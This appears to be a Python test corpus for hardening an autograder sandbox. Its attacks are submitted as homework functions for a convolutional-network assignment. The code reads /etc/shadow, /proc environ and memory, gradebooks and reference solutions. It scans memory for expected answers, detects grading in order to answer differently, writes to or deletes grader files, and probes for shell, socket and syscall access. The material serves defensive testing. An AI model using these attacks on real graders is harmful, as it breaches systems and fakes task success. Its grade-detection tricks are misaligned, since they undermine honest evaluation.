"""Attacks by reading: answers, marks, other people's work, in memory and in files.

What they find they print: the tests look for the grader's secrets in all that comes back.
"""

from solutions.corpora.attacks import Attack

FILES = """
import glob, os
def look(path, most=4000):
    try:
        if os.path.isdir(path):
            print("FOLDER", path, sorted(os.listdir(path))[:50])
        else:
            with open(path, "rb") as file:
                print("FILE", path, file.read(most))
    except (OSError, ValueError) as error:
        print("refused", path, error)
"""

ATTACKS = (
    Attack(
        "frames_and_gc",
        "search callers' frames, garbage collector, In, Out and all modules for answers",
        before=(
            """
import gc, sys
def search(depth=0):
    found = []
    frame = sys._getframe()
    while frame:
        found += [name for name in (*frame.f_locals, *frame.f_globals)
                  if name in ("expected", "right_answers", "seed_of_round", "grader", "verdict")]
        frame = frame.f_back
    for item in gc.get_objects():
        if type(item) is dict and {"expected", "score", "max_score"} & {
                key for key in item if type(key) is str}:
            found.append(sorted(key for key in item if type(key) is str)[:20])
    found += [name for name in sys.modules if name.startswith(("solutions", "autograder"))]
    return found
""",
            "print(search()); print(len(In), dict(Out), get_ipython().history_manager)",
        ),
        functions={
            "zero_pad": "def zero_pad(X, pad):\n    raise ValueError(repr(search())[:400])",
            "pool_forward": """
def pool_forward(A_prev, hparameters, mode="max"):
    caller = __import__("sys")._getframe(1)
    raise ValueError(repr({k: v for k, v in caller.f_locals.items() if k != "self"})[:450])
""",
        },
    ),
    Attack(
        "largest_fitting_array",
        "answer with any array in the process's memory that has the right shape",
        before=(
            """
import gc
def any_array(shape, not_these):
    taken = {id(item) for item in not_these}
    for item in gc.get_objects() + [v for o in gc.get_objects() if type(o) is dict
                                    for v in list(o.values())]:
        if type(item) is np.ndarray and item.shape == shape and id(item) not in taken:
            return item
    return np.ones(shape)
""",
        ),
        functions={
            "zero_pad": """
def zero_pad(X, pad):
    return any_array((len(X), X.shape[1] + 2 * pad, X.shape[2] + 2 * pad, X.shape[3]), [X])
""",
            "create_mask_from_window": """
def create_mask_from_window(x):
    return any_array(x.shape, [x])
""",
            "pool_backward": """
def pool_backward(dA, cache, mode="max"):
    return any_array(cache[0].shape, [dA, cache[0]])
""",
        },
    ),
    Attack(
        "files_of_the_grader",
        "read solutions, sources, gradebook, verdicts, rounds and other students' work",
        before=(
            FILES,
            """
for path in ("@SECRETS@", "@SECRETS@/gradebook.db", "@SECRETS@/other.ipynb",
             "@SECRETS@/round.json", "@ROOT@", "@ROOT@/solutions", "@ROOT@/.git/HEAD",
             "@ROOT@/solutions/cnn_step_by_step/reference.py",
             "@ROOT@/autograder/grading/grader.py",
             "@ROOT@/notebooks/source/cnn_step_by_step.py", "@ROOT@/build", "..", "../..", "/",
             "/home", "/root", "/tmp", "/var", "/course", "/engine", "/student", "/warm", "/run",
             "/etc/shadow", "/etc/passwd", "/dev", "/dev/shm", "/mnt", "/srv", "/opt", "/sys",
             "/course/../@SECRETS@/gradebook.db", "/proc/1/cwd/../../@SECRETS@/gradebook.db"):
    look(path)
for folder, folders, names in os.walk("/"):
    # Libraries are nobody's secret, and long to search.
    folders[:] = [f for f in folders if f not in ("proc", "sys", "usr", "lib", "site-packages")]
    wanted = {"gradebook.db", "reference.py", "verdict.py", "other.ipynb", "key"} & set(names)
    if wanted or ".git" in folders or "verdicts" in folders:
        print("REACHED", folder, wanted)
""",
        ),
    ),
    Attack(
        "processes_seen_in_proc",
        "read environment, arguments, memory and descriptors of other processes in /proc",
        before=(
            FILES,
            """
for number in ("@PID@", "self", "1", "2", *sorted(os.listdir("/proc"))[:40]):
    for name in ("environ", "cmdline", "cwd", "root", "fd", "maps", "status", "mountinfo"):
        look(f"/proc/{number}/{name}", 1500)
    for name in ("cwd", "root"):
        look(f"/proc/{number}/{name}/@SECRETS@/gradebook.db")
for name in ("kcore", "kallsyms", "sched_debug", "net/unix", "net/tcp", "sysvipc/shm", "keys"):
    look(f"/proc/{name}", 500)
""",
        ),
        functions={
            "conv_forward": """
def conv_forward(A_prev, W, b, hparameters):
    raise ValueError(open(f"/proc/{os.getppid()}/environ").read())
"""
        },
    ),
    Attack(
        "environment_and_arguments",
        "read the process's own environment, arguments, user and auxiliary values",
        before=(
            """
import os, sys, pwd, socket, platform, resource, getpass
print(dict(os.environ), sys.argv, sys.orig_argv, sys.path, sys.flags)
print(os.getuid(), os.getgid(), os.getgroups(), pwd.getpwall(), platform.uname())
print(open("/proc/self/mountinfo").read()[:3000])
""",
        ),
    ),
    Attack(
        "detecting_the_grader",
        "behave differently when graded: by environment, process number, time, call and input",
        before=(
            """
import os, sys, time
graded = (os.getpid() < 10 or "inside" in sys.modules or os.getcwd().startswith("/student")
          or "NBGRADER_EXECUTION" in os.environ or get_ipython().__class__.__name__ != "ZMQ")
calls = {}
def turn(name):
    calls[name] = calls.get(name, 0) + 1
    return calls[name]
""",
        ),
        functions={
            "zero_pad": """
def zero_pad(X, pad):
    if graded and turn("zero_pad") > 1:
        return X
    return np.zeros((len(X), X.shape[1] + 2 * pad, X.shape[2] + 2 * pad, X.shape[3]))
""",
            "conv_single_step": """
def conv_single_step(a_slice_prev, W, b):
    return float(time.time() % 1) if graded else float(np.sum(a_slice_prev * W) + b.item())
""",
            "pool_forward": """
def pool_forward(A_prev, hparameters, mode="max"):
    frame = sys._getframe()
    while frame.f_back:
        frame = frame.f_back
    return ("right" if frame.f_globals.get("score") else A_prev), (A_prev, hparameters)
""",
        },
    ),
    Attack(
        "writing_to_the_grader",
        "write, append, truncate, link, rename and delete in every folder of the grader",
        before=(
            """
import os, shutil
targets = ["@SECRETS@/gradebook.db", "@SECRETS@/verdict.json", "@SECRETS@/other.ipynb",
           "@ROOT@/solutions/corpora/attacks/s", "/course/checks/data/cnn_step_by_step.h5",
           "/course/public_tests.py", "/engine/inside/child.py", "/etc/passwd", "/proc/1/mem",
           "/proc/@PID@/mem",
           "/proc/sys/kernel/core_pattern", "/proc/@PID@/oom_score_adj", np.__file__]
acts = [lambda p: open(p, "ab").write(b"score = 100"), lambda p: os.truncate(p, 0), os.unlink,
        lambda p: os.rename(p, p + ".old"), lambda p: os.symlink("/student/work", p),
        lambda p: os.link(p, "/student/work/link"), lambda p: os.chmod(p, 0o777),
        lambda p: os.utime(p), lambda p: shutil.rmtree(os.path.dirname(p), ignore_errors=False)]
for path in targets:
    for act in acts:
        try:
            act(path)
            if path != "/proc/1/mem":
                print("WRITTEN", path)
        except (OSError, ValueError):
            pass
""",
        ),
    ),
    Attack(
        "sqlite_and_network",
        "open the gradebook with sqlite, and reach for the network, sockets and programs",
        before=(
            """
import ctypes, os, socket, sqlite3, subprocess
def attempt(name, act):
    try:
        print("REACHED", name, act())
    except BaseException as error:
        print("refused", name, type(error).__name__)
attempt("gradebook", lambda: sqlite3.connect("file:@SECRETS@/gradebook.db?mode=ro", uri=True)
        .execute("select * from sqlite_master").fetchall())
attempt("tcp", lambda: socket.create_connection(("127.0.0.1", 80), 1))
attempt("name", lambda: socket.getaddrinfo("example.org", 80))
for family in range(1, 45):
    attempt(f"family {family}", lambda: socket.socket(family, socket.SOCK_DGRAM))
attempt("program", lambda: subprocess.run(["/bin/sh", "-c", "id"], capture_output=True).stdout)
attempt("shell", lambda: os.system("id") and None or 1 / 0)
libc = ctypes.CDLL(None, use_errno=True)
def in_a_fork(act):
    # Some of these calls end whoever makes them.
    pid = os.fork()
    if pid == 0:
        os._exit(0 if act() == 0 else 1)
    return os.waitpid(pid, 0)[1] == 0 or 1 / 0
for number in (101, 165, 272, 308, 321, 425, 298, 323, 310, 434, 438, 275, 276, 278, 319, 428):
    attempt(f"syscall {number}", lambda: in_a_fork(lambda: libc.syscall(number, 0, 0, 0, 0, 0)))
""",
        ),
    ),
)
